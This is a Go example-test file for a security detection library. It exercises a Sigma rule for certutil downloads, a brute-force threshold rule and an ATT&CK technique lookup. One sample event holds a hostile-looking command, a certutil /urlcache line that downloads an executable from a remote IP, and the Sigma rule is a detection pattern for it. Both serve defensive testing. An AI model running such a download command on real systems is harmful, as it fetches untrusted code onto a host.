package detect_test

import (
	"context"
	"fmt"
	"time"

	"github.com/vigilhq/vigil/internal/detect"
	"github.com/vigilhq/vigil/internal/event"
)

func ExampleCompileSigma() {
	rule, err := detect.CompileSigma([]byte(`
title: Certutil Download
logsource:
  product: windows
  category: process_creation
detection:
  certutil:
    Image|endswith: '\certutil.exe'
  fetch:
    CommandLine|windash|contains: ' -urlcache'
  condition: certutil and fetch
level: high
`))
	if err != nil {
		fmt.Println(err)
		return
	}
	set := detect.NewSigmaSet([]*detect.SigmaRule{rule})

	// A Sysmon process creation as the normaliser shapes it: native names
	// in Original, the envelope in ECS.
	ev := event.Event{
		Original: map[string]any{
			"EventID":     1,
			"Channel":     "Microsoft-Windows-Sysmon/Operational",
			"Image":       `C:\Windows\System32\certutil.exe`,
			"CommandLine": `certutil /urlcache /f http://198.51.100.4/a.exe a.exe`,
		},
		Fields: map[string]any{"winlog": map[string]any{"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1}},
	}
	for _, m := range set.Match(context.Background(), ev) {
		fmt.Println(m.Rule.Title, m.Rule.Level)
	}
	// Output: Certutil Download high
}

func ExampleCompileSigma_unsupported() {
	_, err := detect.CompileSigma([]byte(`
title: Many failures
logsource: {product: linux, service: sshd}
detection:
  failed: ['Failed password']
  condition: failed | count() by src_ip > 10
`))
	fmt.Println(err)
	// Output: aggregation conditions are not supported: use a THRESHOLD rule
}

func ExampleThresholdRule_Evaluate() {
	rule, err := detect.CompileThreshold([]byte(`
filter:
  event.category: authentication
  event.outcome: failure
group_by: [source.ip]
threshold: 3
window: 1m
`))
	if err != nil {
		fmt.Println(err)
		return
	}
	start := time.Date(2026, 8, 5, 10, 0, 0, 0, time.UTC)
	var hits []detect.Hit
	for i := range 4 {
		ev := event.Event{
			ID:        fmt.Sprintf("e%d", i+1),
			Timestamp: start.Add(time.Duration(i) * 10 * time.Second),
			Fields: map[string]any{
				"event":  map[string]any{"category": []any{"authentication"}, "outcome": "failure"},
				"source": map[string]any{"ip": "203.0.113.7"},
			},
		}
		if rule.Filter(ev) {
			key, _, _ := rule.GroupKey(ev)
			fmt.Println("group", key)
			hits = append(hits, rule.Hit(ev))
		}
	}
	// All hits are new here; a caller re-evaluating stored hits marks only
	// the new ones fresh.
	for _, b := range rule.Evaluate(hits, map[string]bool{"e4": true}) {
		fmt.Println(b.Count, b.From.Format(time.TimeOnly), b.To.Format(time.TimeOnly), b.EventIDs)
	}
	// Output:
	// group source.ip="203.0.113.7"
	// group source.ip="203.0.113.7"
	// group source.ip="203.0.113.7"
	// group source.ip="203.0.113.7"
	// 4 10:00:00 10:00:30 [e1 e2 e3 e4]
}

func ExampleAttack_Techniques() {
	attack, err := detect.ParseAttack([]byte(`{"tactics": [{"id": "TA0006", "name": "Credential Access", "shortname": "credential-access"}],
		"techniques": [{"id": "T1110", "name": "Brute Force"}, {"id": "T1110.001", "name": "Password Guessing", "tactics": ["credential-access"]}]}`))
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, t := range attack.Techniques([]string{"attack.credential-access", "attack.t1110.001", "attack.t1078"}) {
		fmt.Printf("%s %q\n", t.ID, t.DisplayName())
	}
	// Output:
	// T1110.001 "Brute Force: Password Guessing"
	// T1078 "T1078"
}
